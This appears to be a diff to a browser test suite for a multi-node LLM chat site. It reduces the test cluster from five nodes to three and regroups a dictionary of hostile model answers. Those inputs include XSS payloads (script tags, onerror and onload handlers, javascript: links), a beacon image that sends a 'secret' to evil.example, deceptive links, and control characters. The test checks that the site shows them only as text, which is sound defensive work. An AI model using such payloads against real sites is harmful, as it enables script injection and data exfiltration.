@@ -14,7 +14,7 @@ from server.transfer import parse
 from tests.web.browsing import Site, Surf, site
 from tests.web.writing_llm import WritingLlm, writing_llm
 
-NODES = (1, 2, 3, 4, 5)
+NODES = (1, 2, 3)
 WHY: list[Any] = [{"role": "user", "content": "Why?"}]
 
 
@@ -58,14 +58,14 @@ def test_openais_client_gets_words_before_the_answer_is_complete(talk: Talk) -> 
 def test_openais_client_learns_that_what_it_was_sent_does_not_stand(talk: Talk) -> None:
     writing = talk.llm.question("Why not?")
     header = {"Idempotency-Key": "does-not-stand"}
-    stream = talk.client(2).responses.create(model="node-4", input="Why not?", stream=True, extra_headers=header)
-    writing.writes(4, "Because")
+    stream = talk.client(3).responses.create(model="node-2", input="Why not?", stream=True, extra_headers=header)
+    writing.writes(2, "Because")
     assert any(event.type == "response.output_text.delta" and event.delta == "Because" for event in stream)
-    writing.breaks_off(4)
-    writing.ends(4, "No.")  # asked again
+    writing.breaks_off(2)
+    writing.ends(2, "No.")  # asked again
     last = list(stream)[-1]
-    assert last.type == "error" and "node 4 began again with something else" in last.message
-    again = talk.client(5).responses.create(model="node-4", input="Why not?", extra_headers=header)
+    assert last.type == "error" and "node 2 began again with something else" in last.message
+    again = talk.client(3).responses.create(model="node-2", input="Why not?", extra_headers=header)
     assert again.output_text == "No.", "the answer is there for whoever asks again"
 
 
@@ -73,7 +73,7 @@ def test_ask_see_it_written_and_choose(talk: Talk, surf: Surf) -> None:
     """By keyboard alone, in one page; another page, at another node, sees the same."""
     writing = talk.llm.question("How?")
     page = surf.page(talk.site.address("conversations"))
-    other = surf.page(talk.site.address("conversations", node=4))
+    other = surf.page(talk.site.address("conversations", node=2))
     page.get_by_label("Name of a new conversation").press_sequentially("by-hand")
     page.keyboard.press("Enter")
     expect(page.get_by_role("heading", name="by-hand")).to_be_visible()
@@ -107,13 +107,13 @@ def test_the_nodes_choose_names_are_hidden_and_errors_are_told(talk: Talk, surf:
     page.get_by_label("Hide names").check()
     page.get_by_label("Question", exact=True).fill("Who?")
     page.get_by_role("button", name="Ask all nodes").click()
-    expect(page.get_by_role("button", name="Choose Answer E")).to_be_visible()
+    expect(page.get_by_role("button", name="Choose Answer C")).to_be_visible()
     assert "Node" not in page.locator(".turn h4").all_text_contents()
     expect(page.locator(".facts").first).to_be_empty()
     page.get_by_role("button", name="Let the nodes choose").click()
     expect(page.locator(".answers .chosen")).to_be_visible()
-    page.get_by_text("The nodes' votes (5)").click()
-    expect(page.locator(".votes li")).to_have_count(5)
+    page.get_by_text("The nodes' votes (3)").click()
+    expect(page.locator(".votes li")).to_have_count(3)
     expect(page.locator(".answers h4")).to_contain_text("Node")
     surf.allowed = ("400",)
     page.get_by_label("Question", exact=True).fill("x" * 140_000)
@@ -147,15 +147,16 @@ def test_a_watcher_is_offered_nothing_to_change(talk: Talk, surf: Surf) -> None:
 
 HOSTILE = {
     1: "<script>window.hacked=1</script><img src=x onerror=window.hacked=1><iframe src='https://evil.example/'></iframe>"
-       "<svg onload=window.hacked=1><style>*{display:none}</style><a href=javascript:window.hacked=1>x</a>",
-    2: "![beacon](https://evil.example/pixel.png?secret=1) "
-       "![x](data:text/html,<script>1</script>) [a](javascript:alert(1)) "
-       "[b](https://good.example@evil.example/) [good.example](https://evil.example/x) [c](data:text/html,1) "
-       "[d](JaVaScRiPt:alert(1)) <https://evil.example/auto> [e](//evil.example/y)\n\n[f]: https://evil.example/ref",
-    3: "\u202egnp.elif \u2066hidden\u2069 \x1b[2J\x1b]0;title\x07 e\u0301" + "\u0301" * 500 + "\n" + "W" * 60_000,
-    4: "\n".join("  " * depth + "- item" for depth in range(180)) + "\n" + "> " * 3000 + "deep\n" + "- " * 3000,
-    5: "*_~`[" * 4000 + "|a" * 3000 + "\n|-" * 3000 + "\n# " + "![" * 3000 + "**" * 3000,
+       "<svg onload=window.hacked=1><style>*{display:none}</style><a href=javascript:window.hacked=1>x</a>\n\n"
+       "![beacon](https://evil.example/pixel.png?secret=1) ![x](data:text/html,<script>1</script>) "
+       "[a](javascript:alert(1)) [b](https://good.example@evil.example/) [good.example](https://evil.example/x) "
+       "[c](data:text/html,1) [d](JaVaScRiPt:alert(1)) <https://evil.example/auto> [e](//evil.example/y)",
+    2: "\u202egnp.elif \u2066hidden\u2069 \x1b[2J\x1b]0;title\x07 e\u0301" + "\u0301" * 500 + "\n" + "W" * 60_000,
+    3: "\n".join("  " * depth + "- item" for depth in range(180)) + "\n" + "> " * 3000 + "deep\n" + "- " * 3000 + "\n"
+       + "*_~`[" * 2000 + "|a" * 1000 + "\n|-" * 1000 + "\n# " + "![" * 1000 + "**" * 1000,
 }
+"""Markup that would run or load something; characters that reorder, control and pile up, and 64 KB without a space;
+nesting without end."""
 
 
 FOUND = """() => ({
@@ -189,8 +190,8 @@ def test_hostile_answers_are_text(talk: Talk, surf: Surf) -> None:
     assert (found["hacked"], found["odd"], found["handlers"]) == (None, 0, 0) and found["elements"] < 20_000
     assert found["links"] and all(protocol == "https:" and "noopener" in rel for protocol, rel, _ in found["links"])
     assert any("https://evil.example/x" in text for *_, text in found["links"]), "a link says where it leads"
-    third = page.get_by_label("What Node 3 says", exact=True).inner_text()
-    assert "\\u{202e}" in third and "^[" in third and "\x1b" not in third
+    second = page.get_by_label("What Node 2 says", exact=True).inner_text()
+    assert "\\u{202e}" in second and "^[" in second and "\x1b" not in second
     for width in (1600, 390):
         page.set_viewport_size({"width": width, "height": 844})
         assert page.evaluate("document.documentElement.scrollWidth") <= width, "nothing makes the page wider"
@@ -201,14 +202,14 @@ def test_hostile_answers_are_text(talk: Talk, surf: Surf) -> None:
 def test_a_node_that_dies_while_an_answer_is_written(talk: Talk, surf: Surf) -> None:
     writing = talk.llm.question("When?")
     talk.site.call("/api/create", {"context": "dying"}, 1)
-    page = surf.page(talk.site.address("conversations", node=5))
+    page = surf.page(talk.site.address("conversations", node=3))
     page.get_by_role("link", name="dying").click()
     page.get_by_label("Question", exact=True).fill("When?")
     page.keyboard.press("Enter")
     writing.writes(1, "Tomo")
     expect(answer_of(page, "Node 1")).to_have_text("Tomo")
     surf.allowed = ("ERR_", "Failed to load resource")
-    victim = talk.site.cluster.nodes[5]
+    victim = talk.site.cluster.nodes[3]
     victim.signal(signal.SIGKILL)
     victim.popen.wait(20)
     expect(page.get_by_text("this page speaks to node 1 now")).to_be_visible()
@@ -217,4 +218,4 @@ def test_a_node_that_dies_while_an_answer_is_written(talk: Talk, surf: Surf) -> 
     writing.ends(1, ".")
     page.get_by_role("button", name="Choose Node 1").click()
     expect(page.locator(".answers .chosen")).to_contain_text("Tomorrow.")
-    talk.site.cluster.start([5])
+    talk.site.cluster.start([3])
